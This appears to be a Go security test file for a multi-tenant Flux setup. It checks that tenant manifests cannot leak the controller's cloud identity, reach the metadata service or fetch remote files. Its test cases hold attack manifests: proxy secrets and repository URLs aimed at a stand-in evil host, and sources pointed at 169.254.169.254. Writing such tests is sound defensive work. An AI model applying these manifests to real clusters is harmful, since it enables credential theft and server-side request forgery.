// SPDX-License-Identifier: Apache-2.0

package tenants

import "testing"

const proxySecret = `
---
apiVersion: v1
kind: Secret
metadata: {name: $NAME}
stringData: {address: "<.Evil.URL>"}
`

func with(objects, name string) string { return objects + replace(proxySecret, "$NAME", name) }

// unsent checks that the tenant's servers were never told the controller's identity.
func unsent(t *testing.T, s *stage) {
	for _, request := range s.Evil.saw(secret("cloud")) {
		t.Errorf("the identity of the controller was sent: %s", request)
	}
}

// identities are attempts to have the controller's own identity sent somewhere.
func (s *stage) identities() map[string]attack {
	return map[string]attack{
		"the controller's identity in clear text, through a proxy": {objects: with(`apiVersion: image.toolkit.fluxcd.io/v1
kind: ImageRepository
metadata: {name: clear}
spec: {image: europe-docker.pkg.dev/x/y/app, interval: 1h, provider: gcp, insecure: true, proxySecretRef: {name: clear}}
`, "clear"), want: []string{"insecure", "proxy"}, stalled: true, after: unsent},
		"the controller's identity through a proxy": {objects: with(`apiVersion: image.toolkit.fluxcd.io/v1
kind: ImageRepository
metadata: {name: proxied}
spec: {image: europe-docker.pkg.dev/x/y/app, interval: 1h, provider: gcp, proxySecretRef: {name: proxied}}
`, "proxied"), want: []string{"proxy"}, stalled: true, after: unsent},
		"the controller's identity for another registry": {objects: `apiVersion: image.toolkit.fluxcd.io/v1
kind: ImageRepository
metadata: {name: other}
spec: {image: <.Evil.Host>/x/app, interval: 1h, provider: gcp}
`, want: []string{"gcp", "Google"}, stalled: true, after: unsent},
		"the controller's identity for another Git server": {objects: `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: azure}
spec: {url: <.Evil.URL>/x.git, interval: 1h, provider: azure}
`, want: []string{"azure", "Azure"}, stalled: true, after: unsent},
	}
}

// addresses are attempts to reach what only the controller reaches.
func (s *stage) addresses() map[string]attack {
	return map[string]attack{
		"a Git server at the metadata service": {objects: `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: metadata}
spec: {url: "http://169.254.169.254/latest/meta-data.git", interval: 1h}
`, want: []string{"metadata service"}},
		"a registry at the metadata service": {objects: `apiVersion: image.toolkit.fluxcd.io/v1
kind: ImageRepository
metadata: {name: metadata}
spec: {image: 169.254.169.254/latest/meta-data, interval: 1h, insecure: true}
`, want: []string{"metadata service"}},
		"remote files in a generator": {operator: true, files: map[string]string{
			"kustomization.yaml": "generators: [gen.yaml]\n",
			"gen.yaml":           "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: x}\nfiles: ['page=" + s.Evil.URL + "/remote']\n",
		}, objects: s.kustomization("generator", ""), want: []string{"remote", "URL", "refused"}, after: func(t *testing.T, s *stage) {
			if sent := s.Evil.saw("/remote"); len(sent) > 0 {
				t.Errorf("the build fetched %s", sent)
			}
		}},
		"a receiver that names Secrets": {objects: `apiVersion: notification.toolkit.fluxcd.io/v1
kind: Receiver
metadata: {name: secrets}
spec:
  type: generic
  secretRef: {name: token}
  resources: [{apiVersion: v1, kind: Secret, name: git, namespace: <.Victim>}]
`, denied: "spec.resources[0].kind: Unsupported value"},
		"a receiver that names what has no namespace": {objects: `apiVersion: notification.toolkit.fluxcd.io/v1
kind: Receiver
metadata: {name: nodes}
spec:
  type: generic
  secretRef: {name: token}
  resources: [{apiVersion: v1, kind: Namespace, name: kube-system}]
`, denied: "spec.resources[0].kind: Unsupported value"},
	}
}

// kustomization is a source NAME and what applies it as the tenant's service account.
func (s *stage) kustomization(name, more string) string {
	return replace(replace(`apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: $NAME, namespace: <.Tenant>}
spec:
  interval: 1h
  prune: true
  targetNamespace: <.Tenant>
  serviceAccountName: tenant
  sourceRef: {kind: GitRepository, name: $NAME}
$MORE`, "$MORE", more)+s.source(), "$NAME", name)
}

// source is a GitRepository NAME of the repository of that name.
func (s *stage) source() string {
	return `
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: $NAME, namespace: <.Tenant>}
spec: {url: <.GitURL>/<.Tenant>-$NAME.git, interval: 1h, ref: {branch: main}, secretRef: {name: $NAME-git}}
---
apiVersion: v1
kind: Secret
metadata: {name: $NAME-git, namespace: <.Tenant>}
stringData: {username: <.GitUsername>, password: <.GitPassword>}
`
}
